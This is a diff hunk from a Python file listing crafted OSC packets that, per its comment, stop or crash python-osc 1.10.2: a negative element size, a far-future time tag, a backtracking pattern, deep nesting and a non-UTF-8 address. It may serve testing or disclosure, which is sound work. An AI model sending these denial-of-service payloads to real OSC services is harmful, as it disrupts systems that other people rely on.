@@ -28,7 +28,7 @@ def nested(depth: int, inner: bytes) -> bytes:
 
 KILLERS = {  # each of these stops or crashes python-osc 1.10.2
     "element of size -4": b"#bundle\0" + b"\0" * 7 + b"\1" + struct.pack(">i", -4),
-    "time tag in the future": bundle(MACRO, tag=struct.pack(">II", int(time.time()) + NTP + 99, 0)),
+    "time tag in the future": bundle(MACRO, tag=struct.pack(">II", int(time.time()) + NTP + 86_400, 0)),
     "pattern that backtracks": b"/" + b"*" * 24 + b"!\0\0" + b",\0\0\0",
     "nested bundles": nested(390, MACRO),
     "address that is not UTF-8": b"/flow/\xff\0,\0\0\0",
